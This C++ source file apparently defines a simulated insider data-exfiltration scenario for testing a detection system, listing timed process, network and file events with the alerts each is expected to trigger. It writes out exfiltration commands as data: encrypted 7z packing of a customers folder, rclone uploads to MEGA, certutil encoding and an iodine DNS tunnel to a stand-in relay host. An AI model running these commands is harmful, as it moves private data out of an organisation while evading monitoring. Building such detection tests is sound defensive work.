#include "simulate/story_list.h"

namespace vedette::simulate {
namespace {

constexpr std::string_view kCopy =
    R"(copy "{work}\export" remote:out --config C:\Users\{user}\AppData\Local\Temp\rc\r.conf --transfers 2 --bwlimit 300k)";
constexpr std::string_view kPack =
    R"(a -p9dK2x -mhe=on "{work}\export\q{n}.7z" "{work}\customers")";

constexpr Step Pack(int day, std::string_view at) {
  return {.day = day,
          .at = at,
          .seen_by = "AD",
          .what = What::kProcess,
          .program = "7z.exe",
          .parent = "cmd.exe",
          .command = kPack};
}
constexpr Step Upload(int day, std::string_view at) {
  return {.day = day,
          .at = at,
          .seen_by = "A",
          .what = What::kProcess,
          .program = "rclone.exe",
          .parent = "cmd.exe",
          .command = kCopy,
          .expect = "Exfil-Tunnel-Tools-Exec A-Exfil-Tunnel-Tools-Exec"};
}
constexpr Step Traffic(int day, std::string_view at) {
  return {.day = day,
          .at = at,
          .seen_by = "A",
          .what = What::kConnection,
          .program = "rclone.exe",
          .command = kCopy,
          .target = "g.api.mega.co.nz",
          .port = 443,
          .bytes = 21'000'000,
          .times = 3,
          .every = 300};
}
constexpr Step Page(int day, std::string_view at, std::string_view url, int times,
                    std::string_view expect) {
  return {.day = day,
          .at = at,
          .seen_by = "D",
          .what = What::kWebPage,
          .program = "chrome.exe",
          .target = url,
          .port = 443,
          .times = times,
          .every = 30,
          .expect = expect};
}

}  // namespace

std::span<const Step> SlowExfiltrationSteps() {
  static const Step kSteps[] = {
      // Tools come in.
      Page(0, "12:14", "https://rclone.org/downloads/", 2, ""),
      {.day = 0,
       .at = "12:17",
       .seen_by = "AD",
       .what = What::kFileCreated,
       .program = "chrome.exe",
       .name = "rclone-current.zip",
       .folder = "C:\\Users\\{user}\\Downloads",
       .bytes = 21'000'000},
      Page(0, "12:40", "https://mega.nz/register", 3, "WEB-FS"),
      // A little each day.
      Pack(1, "12:31"),
      Upload(1, "12:33"),
      Traffic(1, "12:34"),
      Pack(2, "18:05"),
      Upload(2, "18:07"),
      Traffic(2, "18:08"),
      Pack(4, "12:22"),
      Upload(4, "12:25"),
      Traffic(4, "12:26"),
      Pack(5, "17:48"),
      Upload(5, "17:50"),
      Traffic(5, "17:51"),
      Pack(7, "12:36"),
      Upload(7, "12:38"),
      Traffic(7, "12:39"),
      // A second way, for the last and largest part.
      Page(9, "11:05", "https://mega.nz/fm", 80, "WEB-FS WEB-OU-FS"),
      {.day = 9,
       .at = "11:58",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "certutil.exe",
       .parent = "cmd.exe",
       .command = R"(-encode "{work}\export\all.7z" C:\Users\{user}\AppData\Local\Temp\rc\all.txt)",
       .expect = "Certutil-Encode A-Certutil-Encode"},
      {.day = 9,
       .at = "12:02",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "tapinstall.exe",
       .parent = "cmd.exe",
       .command = "install OemVista.inf tap0901",
       .expect = "Tap-Installer A-Tap-Installer"},
      {.day = 9,
       .at = "12:06",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "iodine.exe",
       .parent = "cmd.exe",
       .command = "-f -P q7 t1.dn-relay.example",
       .expect = "DNS-Exfiltration-Tools-Exec A-DNS-Exfiltration-Tools-Exec"},
      {.day = 9,
       .at = "12:07",
       .seen_by = "M",
       .what = What::kNameLookup,
       .target = "z3ab1x9qk2m0.t1.dn-relay.example",
       .ip = "10.10.1.1",
       .port = 53,
       .times = 40,
       .every = 4},
      {.day = 9,
       .at = "12:15",
       .seen_by = "A",
       .what = What::kFileCreated,
       .program = "rclone.exe",
       .command = kCopy,
       .name = "r.log",
       .folder = "C:\\Users\\{user}\\AppData\\Local\\Temp\\rc",
       .bytes = 4'000,
       .expect = "FA-TEMP-DIRECTORY-F"},
      Pack(9, "12:18"),
      Upload(9, "12:20"),
      {.day = 9,
       .at = "12:22",
       .seen_by = "M",
       .what = What::kWebRequest,
       .name = "/ul/1",
       .target = "gfs270n001.userstorage.mega.co.nz",
       .port = 80,
       .bytes = 95'000'000,
       .times = 8,
       .every = 240,
       .expect = "A-WEB-EXFIL-ASSET"},
  };
  return kSteps;
}

}  // namespace vedette::simulate
